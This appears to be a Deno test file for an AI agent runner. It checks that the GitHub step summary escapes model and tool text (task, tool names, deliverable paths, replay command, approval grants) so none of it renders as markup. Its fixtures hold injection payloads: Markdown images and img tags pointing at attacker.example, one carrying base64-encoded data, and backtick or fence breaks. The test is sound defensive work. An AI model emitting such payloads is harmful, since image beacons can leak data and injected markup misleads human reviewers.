// The GitHub step summary (rendered as Markdown with HTML on github.com) shows the model's and the
// tools' text as text: a summary holding an image whose address carries data, a link, raw HTML, a
// tool name or deliverable path that ends its code span, or a replay that ends its fence, never
// becomes markup. Near miss: plain names keep their code spans.
import assert from "node:assert/strict";
import { Redactor } from "../audit/mod.ts";
import { approveArgument } from "../approval/mod.ts";
import type { ToolResult } from "../result/mod.ts";
import { stepSummary } from "./_ci_output.ts";
import type { RunSummary, SummaryPending } from "../report/run_summary.ts";

function result(tool: string, summary: string): ToolResult {
  return {
    tool_call_id: "c1",
    tool,
    ok: true,
    summary,
    output: "",
    data: null,
    artifacts: [],
    error: null,
    duration_ms: 3,
  };
}

function report(
  results: ToolResult[],
  deliverables: string[],
  replay: string | null,
): RunSummary {
  return {
    summary_version: 1,
    run_id: "r1",
    run_dir: "/runs/r1",
    task: "Fix ![x](https://attacker.example/t.png?task)",
    end_reason: "completed",
    final_text: "done",
    error: null,
    error_code: null,
    error_details: null,
    turns: 1,
    counts: { calls: results.length, denied: 0, failed: 0, skipped: 0 },
    duration_ms: 10,
    segments: 1,
    usage: null,
    cost_usd: null,
    output_schema: null,
    deliverables,
    calls: results.map((result) => ({
      id: result.tool_call_id,
      tool: result.tool,
      status: result.ok ? "completed" : "failed",
      ok: result.ok,
      error_type: result.error?.type ?? null,
      summary: result.summary,
      display: result.display ?? [],
    })),
    pending: [],
    replay,
    report_files: null,
    problems: [],
  };
}

const redactor = new Redactor({ secrets: [] });

Deno.test("the step summary escapes images, links, HTML and code-span or fence ends from the model and tools, and keeps plain names in code spans", () => {
  const summary = stepSummary(
    report(
      [
        result(
          "fs.write_file",
          "Wrote ![a](https://attacker.example/p.png?data=c2VjcmV0) <img src=x>",
        ),
        result(
          "evil`<img src=https://attacker.example/n.png>`",
          "[click](https://attacker.example)",
        ),
      ],
      ["notes`<img src=https://attacker.example/d.png>`.md", "out.md"],
      null,
    ),
    redactor,
  );
  // No image, link or tag survives as markup: each `!`, `[`, `(` and `<` is escaped.
  assert.doesNotMatch(summary, /(^|[^\\])!\[/);
  assert.doesNotMatch(summary, /(^|[^\\])\[click\]/);
  assert.doesNotMatch(summary, /(^|[^\\])<img/);
  assert.ok(summary.includes("Fix \\!\\[x\\]\\(https\\:"), summary);
  assert.ok(summary.includes("| 2 | evil\\`\\<img src=https\\:"), summary);
  assert.ok(summary.includes("- notes\\`\\<img"), summary);
  // Near miss: plain names are code spans, as before.
  assert.ok(summary.includes("| 1 | `fs.write_file` | ok |"), summary);
  assert.ok(summary.includes("- `out.md`"), summary);
});

Deno.test("the step summary's replay command sits in a fence longer than any it holds", () => {
  const replay = "kagent-run run --task 'a\n```\n![x](https://attacker.example/r.png)\n```'";
  const grant = {
    tool: "fs.write_file",
    scope: ["write:<workspace>/a`<img src=https://attacker.example/g.png>`"],
    policy: "0123456789abcdef",
  };
  const pending: SummaryPending = {
    tool_call_id: "c1",
    grant,
    approve_argument: approveArgument(grant),
    // What the reviewer reads (the call, its arguments, why): the model's words, escaped too.
    tool: "fs.write_file",
    arguments_summary: { path: "a`<img src=https://attacker.example/h.png>`" },
    reason: "write tools ask by default",
    rule: "default:write-ask",
  };
  const summary = stepSummary({ ...report([], [], replay), pending: [pending] }, redactor);
  assert.ok(summary.includes(`\`\`\`\`sh\n${replay}\n\`\`\`\``), summary);
  // The grant's argument holds a backtick: escaped text, not a code span it could end.
  assert.doesNotMatch(summary, /(^|[^\\])<img/);
  assert.ok(summary.includes("\\`\\<img src=https\\:"), summary);
});
